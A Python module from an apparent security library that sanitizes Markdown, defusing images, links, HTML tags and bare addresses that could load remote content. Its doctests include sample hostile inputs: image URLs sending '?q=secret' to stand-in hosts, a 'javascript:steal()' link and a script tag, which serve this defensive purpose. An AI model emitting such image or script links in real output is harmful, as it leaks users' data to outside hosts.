"""`sanitize_markdown`: Markdown that loads nothing, links where it may, and holds no HTML, whoever renders it.

Renderers disagree in corners, so nothing here tries to know what one of them would show. The text is read once, from
left to right. Whatever could open an image, a link, a definition of one, a tag or an address is judged where it
stands; what may stay is written as it was, and the rest is broken so that no renderer can take it for one. Only text
that every renderer must take for code is passed over.
"""

from __future__ import annotations

import re
from itertools import chain

from aisecure.decisions import Finding
from aisecure.sanitize import _markdown_grammar as grammar
from aisecure.sanitize._markdown_addresses import ADDRESS_BEGINS, judge_address
from aisecure.sanitize._markdown_blocks import Blocks, Line
from aisecure.sanitize.policy import CHAT, HtmlPolicy, PolicyName, named
from aisecure.sanitize.surrogates import well_formed

__all__ = ["MarkdownFilter", "sanitize_markdown"]

# Every place where something might begin. At the end of a piece, the first character of it is enough.
_SPECIAL = r"[`\\<\r\n]|!(?=\[|\Z)|\](?=[(:]|\Z)"
_ANYTHING = re.compile(_SPECIAL)
_ANYTHING_OR_ADDRESS = re.compile(rf"{ADDRESS_BEGINS}|{_SPECIAL}")
_TICKS = re.compile("`++|[\r\n]")
_RUN = re.compile("`++")
_NEWLINE = re.compile("[\r\n]")
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_OPENS_TAG = re.compile("[A-Za-z/!?]")
# A renderer that looks for addresses and notes may take backticks that follow without a space for a part of them.
_SWALLOWS = re.compile(r"//|@|(?i:www\.)|\[\^[^\]]*\Z|\A[^\s]{500}")
_WORD_BOUND = 512
_PIECES = 64  # kept apart before they are joined, so that looking back stays short
_SPACE = re.compile(r"\s")
# What an image leaves behind: its description, if that is only words.
_WORDS = re.compile(r"[\w ,.'+-]{1,200}")
# Inside of code these could end something that began before it, in a renderer with more syntax than CommonMark has:
# formulas, cells of tables, notes, raised text. What follows them is not certainly code.
_CLOSERS = frozenset("|$}~^]\\")
# Some renderers look for these before they look for code, so that code with one of them may be cut in two.
_CUTS = frozenset("|$}~^")


class MarkdownFilter:
    r"""`sanitize_markdown` for a stream; a `aisecure.ports.TextFilter`.

    Holds back what has begun and cannot be judged yet: at most 2,048 characters.

    >>> stream = MarkdownFilter()
    >>> stream.feed("See ![cha") + stream.feed("rt](https://x.example/?q=secret) here") + stream.finish()
    'See \u2039chart\u203a here'
    """

    def __init__(self, *, policy: HtmlPolicy | PolicyName = CHAT, diagrams: bool = False) -> None:
        self._policy = named(policy)
        self._blocks = Blocks(diagrams=diagrams)
        self._specials = _ANYTHING if self._policy.link_hosts is None else _ANYTHING_OR_ADDRESS
        self._text = ""
        self._offset = 0  # of the first character that is held back, in the whole text
        self._found: dict[str, tuple[int, int]] = {}
        self._line_begins = True
        self._line_holds = False  # whether something stands before this place in the line
        # Code between backticks that has begun in this line.
        self._code = 0
        self._code_ends = -1  # where it certainly ends, in the whole text
        self._closers: set[str] = set()
        self._runs: set[int] = set()
        # Lengths of runs of backticks that may still be open in this paragraph, so that the next may close them.
        self._open_runs: set[int] = set()
        self._endless = False
        self._written = ""

    @property
    def findings(self) -> tuple[Finding, ...]:
        """One finding for each kind of construct that was broken, from the first of them to the last."""
        return tuple(
            Finding(f"markdown.{kind}", start, end, detector="sanitize_markdown")
            for kind, (start, end) in self._found.items()
        )

    def feed(self, chunk: str) -> str:
        """Return what no continuation can change.

        Raises:
            TypeError: ``chunk`` is no str.
        """
        if not isinstance(chunk, str):
            raise TypeError("sanitize_markdown takes a str; decode bytes first")
        self._text += well_formed(chunk).replace("\0", "\ufffd")
        return self._run(final=False)

    def finish(self) -> str:
        """Return what was held back."""
        return self._run(final=True)

    def _run(self, *, final: bool) -> str:
        text, at, size = self._text, 0, len(self._text)
        done: list[str] = []
        out: list[str] = []
        while at < size:
            if len(out) > _PIECES:
                done.append(self._flush(out))
            if self._line_begins:
                begun = self._blocks.begin(text, at, final=final)
                if begun is None:
                    break
                at = self._enter(begun, at, out)
                continue
            if self._blocks.fence is not None:
                newline = _NEWLINE.search(text, at)
                end = size if newline is None else newline.start()
                out.append(text[at:end])
                if end < size:
                    after = self._newline(text, end, out, final=final)
                    if after < 0:
                        at = end
                        break
                    end = after
                at = end
                continue
            match = self._specials.search(text, at)
            start = size if match is None else match.start()
            if start > at:
                plain = text[at:start]
                out.append(plain)
                self._line_holds = self._line_holds or not plain.isspace()
                if self._code:
                    self._closers |= _CLOSERS.intersection(plain)
            if match is None:
                at = size
                break
            at = self._special(match, start, out, final=final)
            if at < 0:
                at = start
                break
        self._text = text[at:]
        self._offset += at
        done.append(self._flush(out))
        return "".join(done)

    def _flush(self, out: list[str]) -> str:
        written = "".join(out)
        self._written = (self._written + written)[-_WORD_BOUND:]
        out.clear()
        return written

    def _enter(self, begun: tuple[Line, int, str], at: int, out: list[str]) -> int:
        line, content, written = begun
        out.append(written)
        self._line_begins = self._line_holds = False
        self._drop_code()
        if line is Line.BLANK or line is Line.FENCE:
            self._open_runs.clear()
        if self._blocks.renamed:
            self._note("diagram", at, content)
        return content

    def _newline(self, text: str, at: int, out: list[str], *, final: bool) -> int:
        if text[at] == "\r" and at + 1 == len(text) and not final:
            return -1
        end = at + 2 if text.startswith("\r\n", at) else at + 1
        out.append(text[at:end])
        self._line_begins = True
        return end

    def _drop_code(self) -> None:
        """Code that did not end in its line is none, and whatever stood in it may have begun some."""
        if self._code:
            self._open_runs.add(self._code)
            self._open_runs |= self._runs
        self._code = 0
        self._code_ends = -1
        self._closers.clear()
        self._runs.clear()

    def _note(self, kind: str, start: int, end: int) -> None:
        start, end = self._offset + start, self._offset + end
        self._found[kind] = (self._found[kind][0] if kind in self._found else start, end)

    def _special(self, match: re.Match[str], at: int, out: list[str], *, final: bool) -> int:
        """Write what may stand at the place and return where to go on, or -1 when more text is needed."""
        text, mark = match.string, match[0]
        first = mark[0]
        if first in "\r\n":
            self._drop_code()
            return self._newline(text, at, out, final=final)
        if first == "`":
            return self._backticks(text, at, out, final=final)
        if first == "\\":
            end = self._backslash(text, at, out, final=final)
        else:
            end = self._suspect(text, at, mark, out, final=final)
        if end >= 0:
            self._line_holds = True
            if self._code and first in _CLOSERS:
                self._closers.add(text[at : at + 2] if first == "]" else first)
        return end

    # Code

    def _backticks(self, text: str, at: int, out: list[str], *, final: bool) -> int:
        end = self._end_of_run(text, at, final=final)
        if end < 0:
            return -1
        length = end - at
        if not self._code and _SWALLOWS.search(self._word(out)):
            self._open_runs.add(length)
        out.append(text[at:end])
        self._line_holds = True
        if self._code == length:
            self._code = 0
            self._drop_code()
        elif self._code:
            self._runs.add(length)
            if length in self._open_runs:
                self._closers.add("`")
        elif length not in self._open_runs and not self._endless:
            self._code = length
        return end

    def _word(self, out: list[str]) -> str:
        """Return what was written last, as far back as to a space."""
        word = ""
        for piece in chain(reversed(out), (self._written,)):
            word = piece + word
            if len(word) > _WORD_BOUND or _SPACE.search(piece):
                break
        return _SPACE.split(word[-_WORD_BOUND:])[-1]

    def _end_of_run(self, text: str, at: int, *, final: bool) -> int:
        run = grammar.take(_RUN, text, at, at + grammar.BOUND)
        if run.end() == at + grammar.BOUND:
            # A run that is cut has no length, and then no run has a partner for certain.
            self._endless = True
            self._drop_code()
        elif run.end() == len(text) and not final:
            return -1
        return run.end()

    def _in_code(self, text: str, at: int, *, final: bool, address: bool) -> bool | None:
        """Whether the place is certainly inside of code; None when more text is needed to tell."""
        if not self._code or (self._closers - {"]("} if address else self._closers):
            return False
        if self._offset + at < self._code_ends:
            return True
        limit = at + grammar.BOUND
        for run in _TICKS.finditer(text, at, limit):
            if run[0][0] in "\r\n":
                break
            if run.end() in (len(text), limit) and not (final and run.end() < limit):
                return None if not final and len(text) < limit else self._not_code()
            if len(run[0]) == self._code:
                if _CUTS.intersection(text[at : run.start()]):
                    return self._not_code()
                self._code_ends = self._offset + run.start()
                return True
        else:
            if not final and len(text) < limit:
                return None
        return self._not_code()

    def _not_code(self) -> bool:
        self._drop_code()
        return False

    def _backslash(self, text: str, at: int, out: list[str], *, final: bool) -> int:
        if at + 1 == len(text) and not final:
            return -1
        following = text[at + 1 : at + 2]
        if following == "`":
            return self._escaped_backticks(text, at, out, final=final)
        if following == "<" or following not in _PUNCTUATION:
            return self._command(text, at, following, out, final=final)
        if self._code and following not in "!]\\":
            # In code it stands for itself, and what follows may begin something.
            out.append("\\")
            return at + 1
        out.append(text[at : at + 2])
        return at + 2

    def _escaped_backticks(self, text: str, at: int, out: list[str], *, final: bool) -> int:
        end = self._end_of_run(text, at + 1, final=final)
        if end < 0:
            return -1
        if self._code:
            self._runs |= {end - at - 1, end - at - 2}
            out.append("\\")
            return at + 1
        # Whether the first of them belongs to the run is read in both ways.
        self._open_runs |= {end - at - 1, end - at - 2}
        out.append(text[at:end])
        return end

    def _command(self, text: str, at: int, following: str, out: list[str], *, final: bool) -> int:
        """Write a backslash that escapes nothing, or escapes a tag where not every renderer takes it for that."""
        if following == "<":
            if at + 2 == len(text) and not final:
                return -1
            if not self._code and (at + 2 == len(text) or _OPENS_TAG.match(text, at + 2)):
                self._note("html", at, at + 2)
                out.append("&lt;")
                return at + 2
            out.append("\\")
            return at + 1
        command = grammar.TEX.at(text, at, final=final)
        if command is True:
            return -1
        if command is False:
            out.append("\\")
            return at + 1
        inside = self._in_code(text, at, final=final, address=False)
        if inside is None:
            return -1
        if inside:
            out.append("\\")
            return at + 1
        self._note("formula", at, command.end())
        out.append(command["name"])
        return command.end()

    # What may be an image, a link, a definition, a tag or an address

    def _suspect(self, text: str, at: int, mark: str, out: list[str], *, final: bool) -> int:
        if mark[0] == "<" and text[at + 1 : at + 2] and not _OPENS_TAG.match(text, at + 1):
            out.append("<")
            return at + 1
        if at + 1 == len(text) and mark[0] in "!]<" and (not final or mark[0] != "<"):
            if not final:
                return -1
            out.append(mark)
            return at + 1
        address = mark[0] not in "!]<"
        inside = self._in_code(text, at, final=final, address=address)
        if inside is None:
            return -1
        if inside:
            out.append(mark)
            return at + len(mark)
        if mark[0] == "!":
            return self._image(text, at, out, final=final)
        if mark[0] == "<":
            return self._angle(text, at, out, final=final)
        if mark[0] == "]":
            return (self._link if text[at + 1] == "(" else self._definition)(text, at, out, final=final)
        return self._address(text, at, mark, out, final=final)

    def _image(self, text: str, at: int, out: list[str], *, final: bool) -> int:
        image = grammar.IMAGE.at(text, at, final=final)
        if image is True:
            return -1
        if image is False:
            # It may be one with a more complicated description, or one by reference: a link is what remains.
            self._note("image", at, at + 2)
            out.append("\\!")
            return at + 1
        address = grammar.target(image)
        if grammar.image_kept(address, self._policy):
            out.append(image[0])
        else:
            self._note("image", at, image.end())
            said = image["alt"].strip()
            words = _WORDS.fullmatch(said) and (self._policy.link_hosts is None or "www." not in said.lower())
            # The marks around it keep its neighbours apart: what was removed must not join them into something new.
            out.append(f"\u2039{said if words else 'image'}\u203a")
        return image.end()

    def _link(self, text: str, at: int, out: list[str], *, final: bool) -> int:
        link = grammar.LINK.at(text, at, final=final)
        if link is True:
            return -1
        if link is False:
            self._note("link", at, at + 2)
            out.append("]\\(")
            return at + 2
        address = grammar.target(link)
        if grammar.link_kept(address, self._policy):
            out.append(link[0])
        else:
            self._note("link", at, link.end())
            out.append(f"]\u2039{grammar.host_of(address)}\u203a")
        return link.end()

    def _definition(self, text: str, at: int, out: list[str], *, final: bool) -> int:
        definition = grammar.DEFINITION.at(text, at, final=final)
        if definition is True:
            return -1
        if definition is not False and grammar.definition_kept(definition, self._policy):
            out.append("]:")
            if _NEWLINE.search(text, at, definition.end()):
                self._blocks.awaits_address = True
        else:
            self._note("definition", at, at + 2)
            out.append("]\\:")
        return at + 2

    def _angle(self, text: str, at: int, out: list[str], *, final: bool) -> int:
        link = grammar.AUTOLINK.at(text, at, final=final)
        if isinstance(link, re.Match):
            address = f"mailto:{link['mail']}" if link["address"] is None else link["address"]
            if grammar.link_kept(address, self._policy):
                out.append(link[0])
                return link.end()
            kind = "link"
        else:
            tag = grammar.TAG.at(text, at, final=final)
            if link is True or tag is True:
                return -1
            # A tag that begins a line could begin a block, in which nothing is Markdown.
            if isinstance(tag, re.Match) and self._line_holds and tag["tag"] in self._policy.tags:
                out.append(tag[0])
                return tag.end()
            kind = "html"
        self._note(kind, at, at + 1)
        out.append("&lt;")
        return at + 1

    def _address(self, text: str, at: int, mark: str, out: list[str], *, final: bool) -> int:
        judged = judge_address(text, at, mark, self._policy.link_hosts or frozenset(), final=final)
        if judged is None:
            return -1
        end, written = judged
        if written != text[at:end]:
            self._note("address", at, end)
        out.append(written)
        return end


def sanitize_markdown(text: str, *, policy: HtmlPolicy | PolicyName = CHAT, diagrams: bool = False) -> str:
    r"""Return Markdown that a renderer turns into nothing that loads by itself, runs, or leads where it must not.

    It reads CommonMark and GitHub's tables, links and fences, and assumes a renderer that may know more (formulas,
    notes, directives). Images of hosts that the policy does not list become their description, images by reference
    become links, links and definitions that lead elsewhere lose their address, HTML is shown as text, and with
    ``link_hosts`` bare addresses of other hosts are defanged (``hxxps://evil[.]example``). Code stays as it is.
    Rendered pages should still go through `sanitize_html`.

    Args:
        text: Markdown of any size; time is linear in it. NUL and lone surrogates become U+FFFD.
        policy: Hosts, schemes and tags that may stay, as for `aisecure.sanitize.sanitize_html`; of the tags only
            ``br kbd mark small sub sup u wbr``, without attributes, inside of a line.
        diagrams: Leave fences that renderers draw (Mermaid, PlantUML, Vega ...), which can fetch images and hold
            links. By default they become code (CVE-2025-54132).

    Raises:
        TypeError: ``text`` is no str.
        ValueError: No policy has that name.

    >>> sanitize_markdown("Done. ![chart](https://evil.example/?q=secret) [more](javascript:steal())")
    'Done. \u2039chart\u203a [more]\u2039link\u203a'
    >>> sanitize_markdown("Use `<b>` and <script>x()</script>")
    'Use `<b>` and &lt;script>x()&lt;/script>'
    """
    stream = MarkdownFilter(policy=policy, diagrams=diagrams)
    return stream.feed(text) + stream.finish()
